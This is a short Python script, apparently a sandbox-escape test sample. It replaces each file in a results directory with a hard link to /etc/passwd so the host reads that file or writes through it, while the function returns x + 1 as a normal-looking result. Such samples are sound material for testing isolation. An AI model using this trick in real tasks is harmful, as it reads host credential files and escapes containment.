"""Hard-link trick on results: replace the out files by hard links to a host file
(/etc/passwd), so that the host reads it as a result (or writes through it later)."""
import os


def run(x):
    out = os.path.join(os.path.dirname(os.environ["TMPDIR"].rstrip("/")), "out")
    for name in os.listdir(out):
        path = os.path.join(out, name)
        os.link("/etc/passwd", path + ".lnk")  # EXDEV (other mount) / EPERM (protected)
        os.replace(path + ".lnk", path)
    return x + 1
